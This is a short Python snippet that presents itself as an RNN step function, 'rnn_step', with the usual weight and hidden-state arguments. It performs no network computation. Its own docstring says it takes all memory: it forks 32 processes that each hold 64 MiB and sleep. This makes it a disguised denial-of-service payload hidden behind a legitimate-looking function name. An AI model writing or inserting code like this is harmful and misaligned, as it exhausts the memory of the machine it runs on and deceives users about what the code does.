"""Take all memory, a little in each of many processes."""

# %% rnn_step
import os
import time


def rnn_step(x, h_prev, Wx, Wh, b):
    for _ in range(32):
        if os.fork() == 0:
            hoard = bytearray(b"x" * 2**26)
            time.sleep(30)
            os._exit(len(hoard) and 0)
    time.sleep(30)
